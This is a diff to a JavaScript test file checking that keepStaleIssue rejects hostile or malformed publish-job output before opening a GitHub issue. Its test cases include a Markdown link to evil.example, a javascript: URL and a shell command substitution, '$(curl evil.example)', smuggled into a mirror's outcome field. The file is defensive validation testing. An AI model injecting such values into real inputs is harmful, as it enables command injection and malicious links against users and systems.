@@ -93,7 +93,7 @@ describe('keepStaleIssue (opens, edits and closes a GitHub issue about stale rat
     ['has a date that doesn’t exist', JSON.stringify({ ...stale, asOf: '2026-09-31' })],
     ['has Markdown in a mirror’s URL', withMirror({ mirror: 'https://x.example/`\n# [look](https://evil.example)' })],
     ['has a javascript: URL as a mirror', withMirror({ mirror: 'javascript:alert(1)' })],
-    ['has a shell command in place of what a mirror returned', withMirror({ outcome: '$(curl evil.example)' })],
+    ['has a shell command as the outcome of a mirror', withMirror({ outcome: '$(curl evil.example)' })],
     ['has “@me” in place of a mirror’s date', withMirror({ date: '@me' })],
   ])('throws an error and opens no issue if the publish job’s output %s', async (_, output) => {
     await expect(keep(output)).rejects.toThrow(CommandError);
